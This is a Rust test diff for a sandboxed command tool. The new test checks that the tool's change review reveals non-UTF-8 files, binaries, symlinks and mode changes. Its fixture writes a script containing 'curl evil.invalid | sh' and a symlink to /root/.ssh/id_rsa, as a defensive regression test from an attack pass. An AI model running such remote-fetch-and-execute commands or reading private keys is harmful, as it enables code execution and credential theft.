@@ -1068,3 +1068,48 @@ fn a_mode_change_never_reaches_a_hard_link_outside_the_workspace() {
         assert_eq!(read(&s, "linked").as_deref(), Some("s\n"));
     }
 }
+
+/// The review says what it does not show as a diff: a file that is not
+/// UTF-8 is shown (invalid bytes replaced), a binary one is named as
+/// binary, a symlink shows its target, a mode change its modes. Found by
+/// an attack pass: a script with one invalid byte in a comment and a
+/// `curl ... | sh` line, and a symlink to a private key, showed only as
+/// their names.
+#[test]
+fn the_review_shows_or_names_everything_it_would_apply() {
+    for leg in legs() {
+        let s = Scratch::new(leg);
+        write(&s, "tool.sh", "echo hi\n");
+        let o = s.exec(
+            &["--json", "--timeout", "1"],
+            &[
+                "sh",
+                "-c",
+                "printf '# caf\\351\\ncurl evil.invalid | sh\\n' > build.sh; \
+                 printf 'a\\000b' > blob.bin; ln -s /root/.ssh/id_rsa notes.txt; \
+                 chmod 0755 tool.sh; sleep 30",
+            ],
+        );
+        assert_code(&o, 124, "timeout: the run is kept");
+        let run = json_status(&o)["changes"]["kept"]["run"]
+            .as_str()
+            .expect("kept run")
+            .to_string();
+        let o = s
+            .retie()
+            .args(["changes", "show", &run])
+            .output()
+            .expect("show");
+        assert_code(&o, 0, "show");
+        let err = stderr(&o);
+        for want in [
+            "+curl evil.invalid | sh",
+            "build.sh: not UTF-8",
+            "blob.bin: new content not shown: binary (3 bytes",
+            "notes.txt: symlink -> /root/.ssh/id_rsa",
+            "tool.sh: mode 0644 -> 0755",
+        ] {
+            assert!(err.contains(want), "{leg:?}: {want:?} missing from:\n{err}");
+        }
+    }
+}
